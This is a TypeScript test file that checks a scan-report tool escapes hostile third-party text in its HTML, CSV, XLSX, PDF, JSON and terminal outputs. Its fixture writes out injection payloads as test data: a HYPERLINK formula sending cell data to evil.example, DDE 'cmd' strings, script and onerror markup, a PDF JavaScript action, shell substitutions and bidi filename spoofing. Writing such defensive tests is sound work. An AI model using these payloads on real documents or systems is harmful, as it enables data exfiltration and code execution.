import { unzipSync } from 'fflate'
import { describe, expect, test } from 'vitest'
import { listedOn, numbers } from '../engine/judge/evidence.test-support.ts'
import { judged } from '../engine/judge/sample-scan.test-support.ts'
import { pdfFonts } from '../output/reports/pdf/pdf-fonts.test-support.ts'
import { scanPdf } from '../output/reports/pdf/scan-pdf.ts'
import { buildReport } from '../output/reports/report-model/build-report.ts'
import { scanCsv } from '../output/reports/scan-csv.ts'
import { scanHtml } from '../output/reports/scan-html.ts'
import { scanJsonText } from '../output/reports/scan-json.ts'
import { scanTable } from '../output/reports/scan-table.ts'
import { scanXlsx } from '../output/reports/scan-xlsx.ts'
import { bundleOf } from './bundle.test-support.ts'
import { readSheets } from './read-sheets.test-support.ts'
import { verifyBundle } from './verify-bundle.ts'

// Everything that a stranger writes, in every place where it is shown, through every format.

const hostile = {
  formula: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  plus: '+cmd|" /C calc"!A1',
  minus: '-2+3+cmd|" /C calc"!A1',
  at: '@SUM(1+1)*cmd|" /C calc"!A1',
  markup: '</td></table><script>alert(1)</script><img src=x onerror=alert(1)>',
  entity: '&lt;script&gt; ]]> <!-- <![CDATA[',
  controls: 'a\u0000b\u001b[2J\u0007\u009b31mc\r\nd\te',
  direction: 'pay\u202egnp.exe\u2066 \u200f\u061c',
  surrogates: 'half \ud800 and \udfff, nonchar \ufffe\uffff',
  pdf: ') Tj ET /JS (app.alert(1)) endstream endobj',
  placeholder: '{sender} ${HOME} $(id) `id` %s',
  long: `${'A'.repeat(65_000)} =1+1`,
  words: '漢字 עברית العربية 🙂 ﷽ e\u0301',
}

const texts = Object.values(hostile)
const scan = judged(
  '203.0.113.0/24',
  texts.map((text, i) => ({
    list: {
      id: `list-${i}`,
      name: text.slice(0, 2000),
      operatorName: text.slice(0, 2000),
      codes: [{ match: '127.0.0.2', means: text.slice(0, 2000) }],
    },
    removal: { url: `https://removal.example/?${text.slice(0, 200)}`, email: text.slice(0, 200) },
    reason: text,
    health: i % 4 === 3 ? ('unreachable' as const) : ('healthy' as const),
    listed: listedOn(numbers(i, i + 3), '127.0.0.2', texts),
  })),
)
const report = buildReport(scan)

test('HTML: no tag, no handler, no control character of a stranger', async () => {
  const page = await scanHtml(report)
  expect(/<(?:script|img)\b/i.test(page)).toBe(false)
  expect(page.replaceAll('\n', '')).not.toMatch(/\p{Cc}|[\u202a-\u202e\u2066-\u2069\u200f\u061c]/u)
  expect(page.match(/<tr\b/g)?.length).toBe(page.match(/<\/tr>/g)?.length)
})

test('CSV: no cell runs, every record is one line', async () => {
  const csv = await scanCsv(scan)
  expect(csv.trimEnd().split('\n')).toHaveLength(1 + scan.evidence.listings.length)
  expect(csv).not.toMatch(/(?:^|[,\n])"[=+\-@\t\r]/)
  expect(csv.replaceAll('\n', '')).not.toMatch(/\p{Cc}/u)
})

describe('XLSX', () => {
  test('texts are text cells, XML is whole, no formula is there', async () => {
    const parts = unzipSync(await scanXlsx(report))
    // oxlint-disable-next-line no-control-regex -- XML 1.0 takes none of these
    const harm = /<f[ >]|<hyperlink|[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/
    const xml = new TextDecoder('utf-8', { fatal: true })
    const harmed = Object.entries(parts).filter(([, bytes]) => harm.test(xml.decode(bytes)))
    expect(harmed.map(([name]) => name)).toEqual([])
    const sheets = readSheets(parts)
    const listings = sheets.get('Listings') ?? []
    expect(listings).toHaveLength(1 + scan.evidence.listings.length)
    expect(listings.flat().some((cell) => typeof cell === 'string' && cell.startsWith('=HYPERLINK'))).toBe(
      true,
    )
    expect(Math.max(...[...sheets.values()].flat(2).map((cell) => String(cell).length))).toBeLessThan(32_767)
  })
})

test('PDF: stays a document without actions, and spells out what no font has', async () => {
  const pdf = Buffer.from(await scanPdf(report, { paper: 'letter', fonts: pdfFonts })).toString('latin1')
  expect(pdf.startsWith('%PDF-1.7')).toBe(true)
  expect(pdf.trimEnd().endsWith('%%EOF')).toBe(true)
  expect(pdf).not.toMatch(/\/(?:JS|JavaScript|OpenAction|Launch|URI|AA)\b/)
  expect(pdf.length).toBeLessThan(3_000_000)
})

test('JSON: no control character of a stranger, and nothing breaks the line', async () => {
  const json = await scanJsonText(scan)
  expect(json).not.toMatch(/[\r\n]/)
  const shown: string = JSON.parse(json).listings[0].text.join('')
  expect(shown).not.toMatch(/\p{Cc}|[\u202a-\u202e\u2066-\u2069]/u)
  for (const text of [hostile.formula, hostile.markup, hostile.pdf, hostile.words])
    expect(shown).toContain(text)
})

test('terminal: no escape sequence of a stranger', () => {
  const table = scanTable(scan, { width: 100, color: false })
  expect(table.replaceAll('\n', '')).not.toMatch(/\p{Cc}/u)
})

test('bundle: keeps the evidence as it came and verifies', async () => {
  expect(verifyBundle(await bundleOf(scan))).toMatchObject({ holds: true, evidenceProblems: [] })
})
